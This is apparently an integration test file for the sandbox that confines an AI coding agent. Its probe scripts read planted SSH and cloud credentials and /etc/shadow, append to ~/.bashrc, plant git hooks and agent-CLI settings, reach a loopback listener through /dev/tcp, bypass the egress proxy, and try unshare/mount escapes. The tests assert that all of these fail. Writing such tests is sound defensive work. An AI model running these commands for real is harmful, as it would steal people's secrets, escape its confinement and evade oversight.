//! The agent's confinement, tested by effect (as root, as CI runs): a command run by a session's
//! agent tries to read the person's secrets, write outside its worktree, reach a listener on the
//! host's loopback, get around the egress proxy and use privilege — and none of it happens, while
//! writes in the worktree, `/tmp` and a git commit still work.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use nucleic_host::{AgentIsolation, Host, HostConfig};
use nucleic_protocol::{Backend, NewSession};

use crate::agent_boundary::until_turn_done;
use crate::daemon::git;

/// A person's home with secrets in it, as the agent must never see them.
pub struct PlantedHome {
    pub home: PathBuf,
    pub secret: String,
}

impl PlantedHome {
    /// `dir/person` with an ssh key, cloud and gh credentials, a shell profile and git config.
    pub fn plant(dir: &Path) -> PlantedHome {
        let home = dir.join("person");
        let secret = format!("SECRET-{}", uuid::Uuid::new_v4().simple());
        for (path, content) in [
            (".ssh/id_ed25519", secret.clone()),
            (".aws/credentials", format!("[default]\naws_secret_access_key = {secret}\n")),
            (".config/gh/hosts.yml", format!("github.com:\n  oauth_token: {secret}\n")),
            (".netrc", format!("machine example.com password {secret}\n")),
            (".bashrc", "# the person's own profile\n".into()),
            (".gitconfig", "[user]\n\tname = Person\n\temail = person@example.invalid\n".into()),
        ] {
            let file = home.join(path);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, content).unwrap();
        }
        PlantedHome { home, secret }
    }

    /// Fails if a planted file changed or a new one appeared at the home's top (besides the
    /// agent's own state there, `.claude` and `.codex`, which the test or the agent may make).
    pub fn assert_untouched(&self) {
        let bashrc = std::fs::read_to_string(self.home.join(".bashrc")).unwrap();
        assert_eq!(bashrc, "# the person's own profile\n", "~/.bashrc was changed");
        assert_eq!(
            std::fs::read_to_string(self.home.join(".ssh/id_ed25519")).unwrap(),
            self.secret
        );
        let mut names: Vec<String> = std::fs::read_dir(&self.home)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n != ".claude" && n != ".claude.json" && n != ".codex")
            .collect();
        names.sort();
        assert_eq!(names, [".aws", ".bashrc", ".config", ".gitconfig", ".netrc", ".ssh"]);
    }
}

/// A listener on the host's loopback that counts the connections it accepted.
pub struct CountingListener {
    pub port: u16,
    pub accepted: Arc<AtomicUsize>,
}

impl CountingListener {
    pub fn start() -> CountingListener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = accepted.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
                if let Ok(mut s) = stream {
                    let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
                    let _ = s.read(&mut [0; 64]);
                }
            }
        });
        CountingListener { port, accepted }
    }
}

/// The tool results of a transcript, as text, and the kinds of its events.
fn transcript_of(path: &Path) -> (String, Vec<serde_json::Value>) {
    let events: Vec<serde_json::Value> = std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let results = events
        .iter()
        .filter(|e| e["kind"]["type"] == "toolResult")
        .map(|e| e["kind"]["content"].to_string())
        .collect::<Vec<_>>()
        .join("\n");
    (results, events)
}

fn config(dir: &Path, person: &Path) -> HostConfig {
    let mut config = crate::host_support::config(dir);
    config.home = dir.join("data");
    config.agent_env = vec![("HOME".into(), person.as_os_str().to_owned())];
    config.agent_isolation = AgentIsolation::Required;
    config
}

fn repo(dir: &Path) -> PathBuf {
    let root = dir.join("repo");
    std::fs::create_dir_all(&root).unwrap();
    git(&root, &["init", "-q", "-b", "main"]);
    std::fs::write(root.join("README"), "hello\n").unwrap();
    git(&root, &["add", "README"]);
    git(&root, &["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init"]);
    root
}

fn new_session(project: &str, prompt: String, mode: Option<&str>) -> NewSession {
    NewSession {
        project_id: project.to_owned(),
        base_ref: None,
        backend: Some(Backend::Simulated),
        model: None,
        permission_mode: Some("bypassPermissions".into()),
        title: Some("probe".into()),
        mode: mode.map(str::to_owned),
        prompt,
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_of_the_agent_reads_no_secret_writes_nothing_outside_and_reaches_no_listener() {
    let dir = tempfile::tempdir().unwrap();
    let person = PlantedHome::plant(dir.path());
    let root = repo(dir.path());
    let outside = dir.path().join("outside.txt");
    std::fs::write(&outside, "original\n").unwrap();
    let git_config = std::fs::read_to_string(root.join(".git/config")).unwrap();
    let listener = CountingListener::start();
    let host = Host::open(config(dir.path(), &person.home)).await.unwrap();
    let project = host.add_project(root.to_str().unwrap(), None, |_| {}).await.unwrap();
    // A neighbour session: its worktree is not this agent's to write.
    let other = host
        .new_session(new_session(&project.project_id, "say hello".into(), None), "test")
        .await
        .unwrap();
    until_turn_done(&host, &other.session_id).await;
    let other_worktree = PathBuf::from(other.worktree.unwrap().path);
    let (h, r, p) = (person.home.display(), root.display(), listener.port);
    let script = format!(
        "cat {h}/.ssh/id_ed25519 {h}/.aws/credentials {h}/.config/gh/hosts.yml {h}/.netrc; \
         cat /etc/shadow; ln -s {h}/.ssh/id_ed25519 key-link && cat key-link; \
         echo listing:; ls -A {h}; echo end-listing; \
         echo pwned >> {h}/.bashrc; echo pwned > {o}; echo pwned > {ow}/planted.txt; \
         echo 'exit 1' > {r}/.git/hooks/pre-commit; echo '[core] hooksPath = /tmp' >> {r}/.git/config; \
         bash -c 'echo leak > /dev/tcp/127.0.0.1/{p}' && echo tcp-open; \
         curl -fsS -m 5 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{p}/ && echo proxy-open; \
         mount -t tmpfs none /mnt && echo tmpfs-mounted; \
         unshare -Urm sh -c 'umount -l {h}; mount -o remount,rw /; echo nested > {o}; cat {h}/.ssh/id_ed25519'; \
         grep CapEff /proc/self/status; \
         echo made > made.txt && git add made.txt && git commit -qm agent-commit && echo committed; \
         git stash list >/dev/null && echo git-ok; echo t > /tmp/t && echo tmp-ok; echo probe-done",
        o = outside.display(),
        ow = other_worktree.display(),
    );
    let session = host
        .new_session(new_session(&project.project_id, format!("run {script}"), None), "test")
        .await
        .unwrap();
    until_turn_done(&host, &session.session_id).await;
    let transcript =
        dir.path().join("data/sessions").join(&session.session_id).join("transcript.jsonl");
    let (output, events) = transcript_of(&transcript);
    assert!(output.contains("probe-done"), "the probe ran: {output}");
    // Reads: nothing of the person's.
    assert!(!output.contains(&person.secret), "a secret was read: {output}");
    let listing =
        output.split("listing:").nth(1).unwrap_or("").split("end-listing").next().unwrap();
    assert!(
        !listing.contains(".ssh") && !listing.contains(".aws"),
        "the home was listed: {output}"
    );
    assert!(!output.contains("root:"), "/etc/shadow was read: {output}");
    // Writes: nothing outside the worktree changed.
    person.assert_untouched();
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "original\n");
    assert!(!other_worktree.join("planted.txt").exists(), "another session's worktree was written");
    assert!(
        !root.join(".git/hooks/pre-commit").exists(),
        "a hook was planted in the main repository"
    );
    assert_eq!(std::fs::read_to_string(root.join(".git/config")).unwrap(), git_config);
    // Network: the listener heard nothing, the proxy refused and said so.
    assert!(!output.contains("tcp-open") && !output.contains("proxy-open"), "{output}");
    assert_eq!(
        listener.accepted.load(Ordering::SeqCst),
        0,
        "the host's loopback listener was reached"
    );
    let refused = events.iter().filter(|e| e["kind"]["type"] == "egressRefused").count();
    assert!(refused >= 1, "the proxy's refusal is an event: {events:?}");
    // Privilege: none.
    // A user namespace of its own (allowed: Codex's sandbox makes one) gains nothing: the
    // mounts it inherits stay locked, so the home stays hidden and the machine read-only.
    assert!(!output.contains("tmpfs-mounted"), "{output}");
    assert!(output.contains("CapEff:\\t0000000000000000"), "capabilities were kept: {output}");
    // What the agent may do, it can.
    assert!(output.contains("committed") && output.contains("git-ok"), "{output}");
    assert!(output.contains("tmp-ok"), "{output}");
    let worktree = PathBuf::from(session.worktree.clone().unwrap().path);
    assert_eq!(std::fs::read_to_string(worktree.join("made.txt")).unwrap(), "made\n");
    let branch = session.worktree.unwrap().branch;
    let log = std::process::Command::new("git")
        .args(["-C", root.to_str().unwrap(), "log", "--format=%s", &branch])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&log.stdout).contains("agent-commit"),
        "the commit is on {branch}"
    );
    // The session says what it ran under.
    let confined =
        events.iter().find(|e| e["kind"]["type"] == "confinement").expect("a confinement event");
    assert_eq!(confined["kind"]["confined"], true, "{confined}");
}

/// Runs `script` with `sh` confined as `plan` says for a worktree of `root`, and returns its
/// output (stdout and stderr) and whether it succeeded.
fn run_confined(config: &HostConfig, cwd: &Path, read_only: bool, script: &str) -> (String, bool) {
    run_confined_as(Path::new("/bin/sh"), config, cwd, read_only, script)
}

/// [`run_confined`] with `shell` as the agent's program.
fn run_confined_as(
    shell: &Path,
    config: &HostConfig,
    cwd: &Path,
    read_only: bool,
    script: &str,
) -> (String, bool) {
    let bwrap = nucleic_host::bubblewrap().clone().expect("bubblewrap works here");
    let place = nucleic_host::confinement::AgentPlace {
        backend: Backend::Simulated,
        cwd,
        session_id: None,
        read_only,
        program: shell,
        sandbox: &nucleic_protocol::ProjectSandbox::default(),
    };
    let iso = nucleic_host::planned(config, bwrap, &place).unwrap();
    let ids = (nix::unistd::getuid().as_raw(), nix::unistd::getgid().as_raw());
    let args = iso.args(shell, &["-c".into(), script.into()], cwd, ids);
    let out = std::process::Command::new(&iso.bwrap).args(args).current_dir(cwd).output().unwrap();
    let text =
        format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (text, out.status.success())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_installed_in_the_home_itself_runs_without_showing_the_home() {
    let dir = tempfile::tempdir().unwrap();
    let person = PlantedHome::plant(dir.path());
    let root = repo(dir.path());
    let config = config(dir.path(), &person.home);
    // The agent's program directly in the home (`~/agent`): its folder is the home itself.
    let shell = person.home.join("agent");
    let sh = nucleic_agents::process::real_program(Path::new("sh")).unwrap();
    std::fs::copy(sh, &shell).unwrap();
    let probe = format!(
        "cd {}; cat .ssh/id_ed25519 .aws/credentials .netrc 2>&1; ls -a 2>&1; echo ran",
        person.home.display()
    );
    let probe = probe.as_str();
    let (out, _) = run_confined_as(&shell, &config, &root, true, probe);
    assert!(!out.contains(".bashrc"), "the home's files were listed: {out}");
    assert!(out.contains("ran"), "the agent runs from its file: {out}");
    assert!(!out.contains(&person.secret), "the home was shown with the agent: {out}");
    // The control: the same probe unconfined reads the secret.
    let open = std::process::Command::new(&shell)
        .args(["-c", probe])
        .env("HOME", &person.home)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&open.stdout).contains(&person.secret));
}

#[tokio::test(flavor = "multi_thread")]
async fn in_readonly_mode_the_worktree_itself_is_read_only() {
    let dir = tempfile::tempdir().unwrap();
    let person = PlantedHome::plant(dir.path());
    let root = repo(dir.path());
    let worktree = root.join(".nucleic/worktrees/ro");
    git(&root, &["worktree", "add", "-q", "-b", "nucleic/ro", worktree.to_str().unwrap()]);
    let config = config(dir.path(), &person.home);
    let script = "echo x > made.txt && echo wrote; cat README; echo t > /tmp/t && echo tmp-ok";
    let (output, _) = run_confined(&config, &worktree, true, script);
    assert!(output.contains("hello") && output.contains("tmp-ok"), "{output}");
    assert!(!output.contains("wrote"), "a readonly agent wrote its worktree: {output}");
    assert!(!worktree.join("made.txt").exists());
    // The same place in edit mode is written, and committed to.
    let commit = "echo x > made.txt && git add made.txt && git commit -qm edit && echo committed";
    let (output, ok) = run_confined(&config, &worktree, false, commit);
    assert!(ok && output.contains("committed"), "{output}");
    assert!(worktree.join("made.txt").exists());
}

/// Writes into every agent CLI's project settings folder, through a link to one, and around
/// them (replacing, removing, renaming the folder), then a file of the worktree.
const SETTINGS_WRITES: &str = "printf '{\"hooks\": 1}' > .claude/settings.json 2>&1; \
    printf x > .claude/settings.local.json 2>&1; printf x > .claude/commands/x.md 2>&1; \
    mkdir .claude/hooks 2>&1; mkdir -p .codex 2>&1; printf x > .codex/config.toml 2>&1; \
    printf x > .gemini/settings.json 2>&1; printf x > conf/gemini/settings.json 2>&1; \
    rm -rf .claude 2>&1; mv .codex moved 2>&1; ln -s /tmp .codex/link 2>&1; \
    echo ok > made.txt && echo wrote";

#[tokio::test(flavor = "multi_thread")]
async fn no_agent_writes_the_settings_folders_agent_clis_load_hooks_from() {
    let dir = tempfile::tempdir().unwrap();
    let person = PlantedHome::plant(dir.path());
    let root = repo(dir.path());
    // The project commits Claude Code settings and a command, and links `.gemini` into a folder.
    std::fs::create_dir_all(root.join(".claude/commands")).unwrap();
    std::fs::create_dir_all(root.join("conf/gemini")).unwrap();
    std::fs::write(root.join(".claude/settings.json"), "{}").unwrap();
    std::fs::write(root.join(".claude/commands/x.md"), "the command\n").unwrap();
    std::fs::write(root.join("conf/gemini/README"), "gemini's\n").unwrap();
    std::os::unix::fs::symlink("conf/gemini", root.join(".gemini")).unwrap();
    git(&root, &["add", "."]);
    git(&root, &["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "settings"]);
    let worktree = root.join(".nucleic/worktrees/s");
    git(&root, &["worktree", "add", "-q", "-b", "nucleic/s", worktree.to_str().unwrap()]);
    let config = config(dir.path(), &person.home);
    let (output, _) = run_confined(&config, &worktree, false, SETTINGS_WRITES);
    assert!(output.contains("wrote"), "the worktree itself stays writable: {output}");
    let read = |p: &str| std::fs::read_to_string(worktree.join(p)).ok();
    assert_eq!(read(".claude/settings.json").as_deref(), Some("{}"), "{output}");
    assert_eq!(read(".claude/commands/x.md").as_deref(), Some("the command\n"), "{output}");
    for made in [
        ".claude/settings.local.json",
        ".claude/hooks",
        ".codex/config.toml",
        ".codex/link",
        "conf/gemini/settings.json",
        "moved",
    ] {
        assert!(!worktree.join(made).exists(), "{made} was made: {output}");
    }
    assert!(worktree.join(".codex").is_dir(), "{output}");
    let status = std::process::Command::new("git")
        .args(["status", "--porcelain"])
        .current_dir(&worktree)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&status.stdout), "?? made.txt\n", "git sees no new folder");
    // The control: unconfined, the same writes land.
    let open = root.join(".nucleic/worktrees/open");
    git(&root, &["worktree", "add", "-q", "-b", "nucleic/open", open.to_str().unwrap()]);
    let out = std::process::Command::new("sh")
        .args(["-c", SETTINGS_WRITES])
        .current_dir(&open)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("wrote"));
    assert!(open.join("conf/gemini/settings.json").exists() && open.join("moved").exists());
}

/// Plants configuration an agent CLI's later runs load, where the person has none yet (`H`
/// stands for the person's home).
const CONFIG_PLANTS: &str = "printf planted > H/.gemini/settings.json 2>&1; \
    printf planted > H/.gemini/trustedFolders.json 2>&1; \
    printf planted > H/.codex/config.toml 2>&1; \
    printf chat > H/.gemini/tmp-chat 2>&1; printf state > H/.codex/state-x 2>&1; echo ran";

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_cannot_plant_the_configuration_files_its_cli_has_not_got_yet() {
    let dir = tempfile::tempdir().unwrap();
    let person = PlantedHome::plant(dir.path());
    let root = repo(dir.path());
    let worktree = root.join(".nucleic/worktrees/c");
    git(&root, &["worktree", "add", "-q", "-b", "nucleic/c", worktree.to_str().unwrap()]);
    // The agents' state folders exist (they have run before), their settings do not.
    std::fs::create_dir_all(person.home.join(".gemini")).unwrap();
    std::fs::create_dir_all(person.home.join(".codex")).unwrap();
    let config = config(dir.path(), &person.home);
    let bwrap = nucleic_host::bubblewrap().clone().expect("bubblewrap works here");
    let shell = Path::new("/bin/sh");
    let run = |backend: Backend, made_first: bool| {
        let place = nucleic_host::confinement::AgentPlace {
            backend,
            cwd: &worktree,
            session_id: None,
            read_only: false,
            program: shell,
            sandbox: &nucleic_protocol::ProjectSandbox::default(),
        };
        let iso = match made_first {
            true => nucleic_host::planned(&config, bwrap.clone(), &place).unwrap(),
            // The control: the plan alone, as starts were before (bwrap skips missing paths).
            false => nucleic_host::confinement::plan(&config, bwrap.clone(), &place),
        };
        let ids = (nix::unistd::getuid().as_raw(), nix::unistd::getgid().as_raw());
        let script = CONFIG_PLANTS.replace("H/", &format!("{}/", person.home.display()));
        let args = iso.args(shell, &["-c".into(), script.into()], &worktree, ids);
        let out = std::process::Command::new(&iso.bwrap).args(args).output().unwrap();
        format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
    };
    let read = |p: &str| std::fs::read_to_string(person.home.join(p)).ok();
    let output = [run(Backend::Gemini, true), run(Backend::Codex, true)].join("\n");
    assert!(output.contains("ran"), "{output}");
    assert_eq!(read(".gemini/settings.json").as_deref(), Some("{}\n"), "{output}");
    assert_eq!(read(".gemini/trustedFolders.json").as_deref(), Some("{}\n"), "{output}");
    assert_eq!(read(".codex/config.toml").as_deref(), Some(""), "{output}");
    // Their state stays theirs to write.
    assert_eq!(read(".gemini/tmp-chat").as_deref(), Some("chat"), "{output}");
    assert_eq!(read(".codex/state-x").as_deref(), Some("state"), "{output}");
    // The control: without the files made first, the same script plants them.
    for file in [".gemini/settings.json", ".gemini/trustedFolders.json", ".codex/config.toml"] {
        std::fs::remove_file(person.home.join(file)).unwrap();
    }
    let output = [run(Backend::Gemini, false), run(Backend::Codex, false)].join("\n");
    assert_eq!(read(".gemini/settings.json").as_deref(), Some("planted"), "{output}");
    assert_eq!(read(".codex/config.toml").as_deref(), Some("planted"), "{output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn git_inside_the_worktree_cannot_touch_the_persons_branches_or_the_repository_config() {
    let dir = tempfile::tempdir().unwrap();
    let person = PlantedHome::plant(dir.path());
    let root = repo(dir.path());
    let main_tip = std::fs::read_to_string(root.join(".git/refs/heads/main")).unwrap();
    let worktree = root.join(".nucleic/worktrees/g");
    git(&root, &["worktree", "add", "-q", "-b", "nucleic/g", worktree.to_str().unwrap()]);
    let config = config(dir.path(), &person.home);
    let script = "git branch -f main HEAD~0 2>&1; git update-ref refs/heads/main HEAD 2>&1; \
                  git tag planted 2>&1; git config core.hooksPath /tmp 2>&1; \
                  git config --worktree core.fsmonitor 'touch /tmp/pwned' 2>&1; \
                  echo 'gitdir: /elsewhere' > .git 2>&1; \
                  echo s > s.txt && git add s.txt && git stash -q && git stash list | grep -c stash@ && \
                  git stash pop -q && git checkout -q -b nucleic/g-two && echo branched";
    let (output, _) = run_confined(&config, &worktree, false, script);
    assert_eq!(std::fs::read_to_string(root.join(".git/refs/heads/main")).unwrap(), main_tip);
    assert!(!root.join(".git/refs/tags/planted").exists(), "a tag was created: {output}");
    let git_config = std::fs::read_to_string(root.join(".git/config")).unwrap();
    assert!(!git_config.contains("hooksPath"), "the repository's config was written: {output}");
    assert!(std::fs::read_to_string(worktree.join(".git")).unwrap().contains("worktrees"));
    assert!(output.contains("branched"), "stash and a session branch work: {output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_projects_sandbox_adds_a_writable_cache_hides_a_path_and_allows_a_destination() {
    let dir = tempfile::tempdir().unwrap();
    let person = PlantedHome::plant(dir.path());
    let root = repo(dir.path());
    let cache = dir.path().join("cache");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::write(root.join("fixtures.key"), "project secret\n").unwrap();
    let listener = CountingListener::start();
    let host = Host::open(config(dir.path(), &person.home)).await.unwrap();
    let project = host.add_project(root.to_str().unwrap(), None, |_| {}).await.unwrap();
    let path = |p: &Path| p.to_string_lossy().into_owned();
    let refused = host
        .set_project_sandbox(
            &project.project_id,
            nucleic_protocol::ProjectSandbox {
                writable: vec![path(&person.home)],
                ..Default::default()
            },
        )
        .await
        .unwrap_err();
    assert!(refused.to_string().contains("home"), "{refused}");
    let sandbox = nucleic_protocol::ProjectSandbox {
        writable: vec![path(&cache)],
        hide: vec![path(&root.join("fixtures.key"))],
        allow_domains: vec![format!("127.0.0.1:{}", listener.port)],
        ..Default::default()
    };
    let summary = host.set_project_sandbox(&project.project_id, sandbox).await.unwrap();
    assert_eq!(summary.sandbox.writable, vec![path(&cache.canonicalize().unwrap())]);
    let (c, r, p) = (cache.display(), root.display(), listener.port);
    let script = format!(
        "echo built > {c}/artifact && echo cache-ok; cat {r}/fixtures.key; \
         curl -fsS -m 5 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{p}/ -o /dev/null; \
         echo probe-done"
    );
    let session = host
        .new_session(new_session(&project.project_id, format!("run {script}"), None), "test")
        .await
        .unwrap();
    until_turn_done(&host, &session.session_id).await;
    let transcript =
        dir.path().join("data/sessions").join(&session.session_id).join("transcript.jsonl");
    let (output, _) = transcript_of(&transcript);
    assert!(output.contains("probe-done") && output.contains("cache-ok"), "{output}");
    assert_eq!(std::fs::read_to_string(cache.join("artifact")).unwrap(), "built\n");
    assert!(!output.contains("project secret"), "a hidden path was read: {output}");
    // The allowed destination was reached through the proxy (the listener reads the request).
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while listener.accepted.load(Ordering::SeqCst) == 0 && std::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(listener.accepted.load(Ordering::SeqCst), 1, "{output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn nucleic_project_sandbox_sets_and_shows_it_and_a_refusal_says_why() {
    use crate::daemon::{DaemonGuard, cli_env};
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("nucleic-home");
    let _guard = DaemonGuard(home.clone());
    let root = repo(dir.path());
    let cache = dir.path().join("cache");
    std::fs::create_dir_all(&cache).unwrap();
    let (code, project, err) =
        cli_env(&home, &["project", "add", root.to_str().unwrap()], &[]).await;
    assert_eq!(code, 0, "{err}");
    let project = project.trim().to_owned();
    let cache_arg = cache.to_str().unwrap();
    let args =
        ["project", "sandbox", &project, "--writable", cache_arg, "--allow-domain", "*.crates.io"];
    let (code, out, err) = cli_env(&home, &args, &[]).await;
    assert_eq!(code, 0, "{err}");
    let cache = cache.canonicalize().unwrap();
    assert!(out.contains(&format!("writable: {}", cache.display())), "{out}");
    assert!(out.contains("egress also to: *.crates.io"), "{out}");
    // Shown again, unchanged.
    let (code, out, _) = cli_env(&home, &["project", "sandbox", &project], &[]).await;
    assert_eq!(code, 0);
    assert!(out.contains("*.crates.io") && out.contains("read-only: none"), "{out}");
    // The whole machine as writable is refused, and nothing changes.
    let (code, _, err) =
        cli_env(&home, &["project", "sandbox", &project, "--writable", "/"], &[]).await;
    assert_ne!(code, 0);
    assert!(err.contains("whole machine"), "{err}");
    let (_, out, _) = cli_env(&home, &["project", "sandbox", &project], &[]).await;
    assert!(out.contains(&format!("writable: {}", cache.display())), "{out}");
}
